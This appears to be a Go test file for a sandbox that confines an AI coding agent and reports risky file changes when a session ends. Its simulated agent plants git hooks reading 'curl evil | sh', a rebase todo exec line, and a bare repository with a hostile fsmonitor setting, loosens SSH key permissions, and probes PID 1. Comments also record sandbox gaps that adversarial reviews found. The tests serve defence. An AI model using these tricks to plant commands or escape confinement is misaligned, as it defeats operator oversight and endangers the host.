// TestStoppedRebaseReported: a rebase the agent leaves stopped, with an
// exec line in its todo list, runs that line at the operator's next
// `git rebase --continue`: the session's end reports the todo list. One
// it finishes leaves nothing to report.
func TestStoppedRebaseReported(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	todo := s.ws + "/.git/rebase-merge/git-rebase-todo"
	r := s.sh("mkdir .git/rebase-merge && " + shq(agent) + " write .git/rebase-merge/git-rebase-todo 'exec id > /tmp/pwned'")
	if r.code != 0 {
		t.Fatalf("the agent's stopped rebase: %s", r)
	}
	if !strings.Contains(r.stderr, "created "+todo) {
		t.Errorf("the session's end does not report the todo list: %s", r.stderr)
	}
	if err := os.RemoveAll(s.ws + "/.git/rebase-merge"); err != nil {
		t.Fatal(err)
	}
	r = s.sh("mkdir .git/rebase-merge && " + shq(agent) + " write .git/rebase-merge/git-rebase-todo pick && rm -r .git/rebase-merge")
	if r.code != 0 || strings.Contains(r.stderr, "session review") {
		t.Errorf("control: a rebase finished in the session is reported: %s", r)
	}
}

// TestReviewReportsProtectedModes: Landlock does not check chmod, so an
// agent can make the operator's denied key readable to others (a known
// limit until the seccomp supervisor); the session's end reports the
// mode change of the key and of its directory, and a session that changes
// no mode reports nothing. An adversarial review made ~/.ssh/id_rsa 0644
// unreported.
func TestReviewReportsProtectedModes(t *testing.T) {
	s := newSandbox(t, standard)
	ssh, key := s.path("home/.ssh"), s.path("home/.ssh/id_ed25519")
	if err := os.Chmod(ssh, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(key, 0o600); err != nil {
		t.Fatal(err)
	}
	if r := s.agent("read", s.ws+"/nothing"); strings.Contains(r.stderr, "session review") {
		t.Errorf("control: a session that changes no mode reports: %s", r.stderr)
	}
	wantErr(t, "the agent reads the key", s.agent("read", key), "EACCES")
	r := s.sh("chmod 0755 " + shq(ssh) + " && chmod 0644 " + shq(key))
	if r.code != 0 {
		t.Fatalf("the documented limit changed: the agent's chmod of the key failed (%s); update the README and this test", r)
	}
	for _, want := range []string{"mode changed " + ssh + " (", "mode changed " + key + " (", "mode 0644, was 0600", "set it back"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
		}
	}
	if st, err := os.Stat(key); err != nil || st.Mode().Perm() != 0o644 {
		t.Fatalf("control: the chmod took effect: %v %v", st, err)
	}
	j := s.exec(launcher, "review", "--json")
	if !strings.Contains(j.stdout, `"kind": "mode changed"`) || !strings.Contains(j.stdout, key) {
		t.Errorf("review --json does not list the mode change: %s", j)
	}
	// The home directory and a directory above a protected path, made
	// writable to every user: another user could then replace ~/.bashrc
	// or create ~/.config/autostart (a second review).
	home, config := s.path("home"), s.path("home/.config")
	s.mkdir("home/.config")
	for _, d := range []string{home, config} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { os.Chmod(home, 0o755); os.Chmod(config, 0o755) })
	r = s.sh("chmod 0777 " + shq(home) + " " + shq(config))
	if r.code != 0 {
		t.Fatalf("the agent's chmod of the home directory: %s", r)
	}
	for _, want := range []string{"mode changed " + home + " (", "mode changed " + config + " ("} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
		}
	}
}

// TestReviewBareRepoAndHooksPath: the hooks directory the workspace's
// repository names in core.hooksPath (husky's .husky/_) is write-protected
// with the config that names it (TestGitIncludedConfigProtected); what
// name rules cannot protect, the session's end reports (README, known
// limits): a bare repository the agent plants, whose config git outside
// obeys (core.fsmonitor) when the operator runs git there, and the hooks
// directory of a nested repository. An ordinary directory with a file
// named config is no finding. An adversarial review found none of them
// reported, as the README claimed.
func TestReviewBareRepoAndHooksPath(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	git := s.lookPath("git")
	if out, err := exec.Command(git, "-C", s.ws, "config", "core.hooksPath", ".husky/_").CombinedOutput(); err != nil {
		t.Fatalf("git config: %v: %s", err, out)
	}
	pre := s.write("home/proj/.husky/_/pre-commit", "#!/bin/sh\nnpm test\n")
	post := s.ws + "/.husky/_/post-checkout"
	wantErr(t, "the agent rewrites a hook", s.agent("write", pre, "curl evil | sh"), "EROFS", "EACCES")
	wantErr(t, "the agent adds a hook", s.agent("write", post, "curl evil | sh"), "EROFS", "EACCES")
	wantOK(t, "control: a file beside the hooks directory", s.agent("write", s.ws+"/.husky/notes.md", "ordinary"))
	wantOK(t, "control: bare adds the hook", s.bare("write", post, "curl evil | sh"))
	a := shq(agent)
	planted := s.ws + "/planted"
	r := s.sh("mkdir -p planted/objects planted/refs ordinary && echo 'ref: refs/heads/main' > planted/HEAD && " +
		a + " write planted/config '[core]\n\tbare = true\n\tfsmonitor = evil\n' && " + a + " write ordinary/config x")
	if r.code != 0 {
		t.Fatalf("the agent's bare repository: %s", r)
	}
	if !strings.Contains(r.stderr, "created "+planted+"/config") {
		t.Errorf("the session's end does not report the planted repository's config: %s", r.stderr)
	}
	if strings.Contains(r.stderr, "ordinary/config") {
		t.Errorf("an ordinary directory's config is reported: %s", r.stderr)
	}
	// Control: git outside obeys the planted config.
	out, _ := exec.Command(git, "-C", planted, "config", "core.fsmonitor").CombinedOutput()
	if strings.TrimSpace(string(out)) != "evil" {
		t.Errorf("control: git does not read the planted repository's config: %q", out)
	}
	// What git takes for a git directory too (a second review): objects
	// a symlink, refs a file, and HEAD with a commondir that points
	// elsewhere.
	r = s.sh("mkdir -p loose/real-objects loose2/objects cw && echo 'ref: refs/heads/main' > loose/HEAD && ln -s real-objects loose/objects && mkdir loose/refs && " +
		"echo 'ref: refs/heads/main' > loose2/HEAD && printf '' > loose2/refs && chmod +x loose2/refs && echo 'ref: refs/heads/main' > cw/HEAD && " +
		a + " write loose/config '[core]\n\tfsmonitor = evil\n' && " + a + " write loose2/config '[core]\n\tfsmonitor = evil\n' && " + a + " write cw/commondir ../elsewhere")
	if r.code != 0 {
		t.Fatalf("the agent's loose git directories: %s", r)
	}
	for _, want := range []string{"created " + s.ws + "/loose/config", "created " + s.ws + "/loose2/config", "created " + s.ws + "/cw/commondir"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("the session's end does not report %q: %s", want, r.stderr)
		}
	}
	// core.hooksPath of a nested repository in the workspace.
	nested := s.ws + "/app"
	for _, args := range [][]string{{"init", "-q", nested}, {"-C", nested, "config", "core.hooksPath", ".husky/_"}} {
		if out, err := exec.Command(git, args...).CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v: %s", args, err, out)
		}
	}
	s.mkdir("home/proj/app/.husky/_")
	r = s.agent("write", nested+"/.husky/_/pre-commit", "curl evil | sh")
	if !strings.Contains(r.stderr, "created "+nested+"/.husky/_/pre-commit") {
		t.Errorf("the session's end does not report a hook in a nested repository's hooksPath: %s", r.stderr)
	}
}

// TestReviewHooksPathOfEnclosingRepo: a workspace inside a repository
// whose config names a hooks directory in the workspace (git outside runs
// its hooks at the operator's next commit in the enclosing repository):
// the agent cannot write a hook there, and when the directory did not
// exist at launch, cannot create it (its parent is carved, as for a
// protected file that does not exist yet) while other new files in the
// workspace's subdirectories stay possible.
func TestReviewHooksPathOfEnclosingRepo(t *testing.T) {
	s := newSandbox(t, standard)
	git := s.lookPath("git")
	outer := s.path("home")
	for _, args := range [][]string{{"init", "-q", outer}, {"-C", outer, "config", "core.hooksPath", "proj/hooks"}} {
		if out, err := exec.Command(git, args...).CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v: %s", args, err, out)
		}
	}
	s.mkdir("home/proj/hooks")
	hook := s.ws + "/hooks/pre-commit"
	wantErr(t, "the agent writes a hook", s.agent("write", hook, "curl evil | sh"), "EROFS", "EACCES")
	wantOK(t, "control: bare writes it", s.bare("write", hook, "# operator\n"))
	if err := os.RemoveAll(s.ws + "/hooks"); err != nil {
		t.Fatal(err)
	}
	s.mkdir("home/proj/src")
	wantErr(t, "the agent creates the hooks directory", s.agent("mkdir", s.ws+"/hooks"), "EACCES")
	wantOK(t, "control: a new file in a subdirectory", s.agent("write", s.ws+"/src/new.go", "package x\n"))
	wantOK(t, "control: bare creates the hooks directory", s.bare("mkdir", s.ws+"/hooks"))
}

// TestReviewHomeInPrivateTmp: a home directory inside /tmp is bound into
// the view, and a policy that grants /tmp (the default one does) lets the
// agent write it: the review walks it as it walks the workspace. A second
// review planted a .envrc and a repository there, unreported.
func TestReviewHomeInPrivateTmp(t *testing.T) {
	s := newSandbox(t, "write_paths = [\"<workspace>/**\", \"/tmp/**\"]\n")
	home := hostTempDir(t, "/tmp", "agent-launcher-home-")
	if err := os.MkdirAll(home+"/proj", 0o755); err != nil {
		t.Fatal(err)
	}
	envrc := home + "/proj/.envrc"
	r := s.execFiles(nil, []string{"HOME=" + home}, launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent, "write", envrc, "export X=1")
	wantOK(t, "the agent writes the home directory under /tmp (the policy's grant)", r)
	if _, err := os.Stat(envrc); err != nil {
		t.Fatalf("control: the write did not reach the host's home: %v", err)
	}
	if !strings.Contains(r.stderr, "created "+envrc) {
		t.Errorf("the session's end does not report a .envrc in the home directory under /tmp: %s", r.stderr)
	}
}

// TestViewOwners: inside the session's user namespace only the operator's
// own ids are mapped. Files of other users show the overflow owner
// (nobody, 65534); the operator's files keep their owner, so git
// (including its safe.directory ownership check), python and a shell work
// in the workspace as outside. README, known limits, says what differs.
func TestViewOwners(t *testing.T) {
	s := newSandbox(t, standard)
	git, py := s.lookPath("git"), s.lookPath("python3")
	if git == "" || py == "" {
		t.Fatalf("this test needs git and python3 in %s", sandboxPATH)
	}
	if out, err := exec.Command(git, "init", "-q", s.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	s.write("home/proj/main.py", "print('hello')\n")
	uid := os.Getuid()
	wantRoot := "65534" // /etc/passwd belongs to root, unmapped for any other operator
	if uid == 0 {
		wantRoot = "0"
	}
	script := `stat -c '%u' /etc/passwd; stat -c '%u' main.py; id -u; ` + git + ` status --porcelain; echo git=$?; ` + py + ` main.py`
	bare := s.bareSh(script)
	if !strings.HasPrefix(bare.stdout, "0\n"+strconv.Itoa(uid)+"\n"+strconv.Itoa(uid)+"\n") {
		t.Fatalf("control: outside, owners are the host's: %s", bare)
	}
	r := s.sh(script)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if r.code != 0 || len(lines) < 5 {
		t.Fatalf("inside: %s", r)
	}
	if lines[0] != wantRoot {
		t.Errorf("inside, /etc/passwd's owner is %s, want %s", lines[0], wantRoot)
	}
	if lines[1] != strconv.Itoa(uid) || lines[2] != strconv.Itoa(uid) {
		t.Errorf("inside, the operator's file or id changed: %q", lines[:3])
	}
	if !strings.Contains(r.stdout, "?? main.py") || !strings.Contains(r.stdout, "git=0") {
		t.Errorf("git status in the workspace: %s", r)
	}
	if lines[len(lines)-1] != "hello" {
		t.Errorf("python in the workspace: %s", r)
	}
	// npm, where it is installed (the host has it; the VMs' minimal
	// Debian does not): a package's script runs, its files are written
	// with the operator's owner.
	npm := s.lookPath("npm")
	if npm == "" {
		t.Logf("npm is not installed here: its part of the test did not run")
		return
	}
	s.write("home/proj/package.json", `{"name":"owners","version":"1.0.0","scripts":{"hi":"node -e \"require('fs').writeFileSync('out.txt','npm-ok')\" && echo npm-ran"}}`)
	npmScript := "npm_config_cache=$PWD/.npm-cache npm_config_update_notifier=false " + npm + " run --silent hi && stat -c '%u' out.txt"
	if bare := s.bareSh(npmScript); bare.code != 0 || !strings.Contains(bare.stdout, "npm-ran") {
		t.Fatalf("control: npm outside: %s", bare)
	}
	os.Remove(s.ws + "/out.txt")
	n := s.sh(npmScript)
	if n.code != 0 || !strings.Contains(n.stdout, "npm-ran\n"+strconv.Itoa(uid)) {
		t.Errorf("npm run in the workspace, inside: %s", n)
	}
	wantFile(t, s.ws+"/out.txt", "npm-ok")
}

// TestPID1ThreadsUnreachable: the init stage stays PID 1, one thread
// (initstage.c: no Go runtime), outside the agent's Landlock domain (the
// process that becomes the agent confines itself after the fork) and
// holding capabilities in the session's user namespace. The agent can
// neither signal nor trace PID 1 through any of its thread ids. Control:
// it signals and traces a child of its own.
func TestPID1ThreadsUnreachable(t *testing.T) {
	s := newSandbox(t, standard)
	a := shq(agent)
	r := s.sh(`n=0; for t in $(ls /proc/1/task); do n=$((n+1)); ` +
		`echo "$t $(` + a + ` kill $t 0 | cut -d' ' -f1-2) $(` + a + ` kill $t USR2 | cut -d' ' -f1-2) $(` + a + ` ptrace $t | cut -d' ' -f1-2)"; done; echo "threads $n"; ` +
		sleeper + a + ` ptrace $! | cut -d' ' -f1; ` + sleeper + a + ` kill $! 0 | cut -d' ' -f1`)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if r.code != 0 || len(lines) < 4 {
		t.Fatalf("inside: %s", r)
	}
	if n := lines[len(lines)-3]; n != "threads 1" {
		t.Fatalf("PID 1 shows %q; the init stage is single-threaded: %s", n, r)
	}
	for _, l := range lines[:len(lines)-3] {
		if f := strings.Fields(l); len(f) != 7 || f[1] != "err" || f[2] != "EPERM" || f[3] != "err" || f[4] != "EPERM" || f[5] != "err" || f[6] != "EPERM" {
			t.Errorf("thread of PID 1 reachable (tid, kill 0, kill USR2, ptrace): %q", l)
		}
	}
	if lines[len(lines)-2] != "ok" || lines[len(lines)-1] != "ok" {
		t.Errorf("control: the agent cannot trace or signal its own child: %q", lines[len(lines)-2:])
	}
}
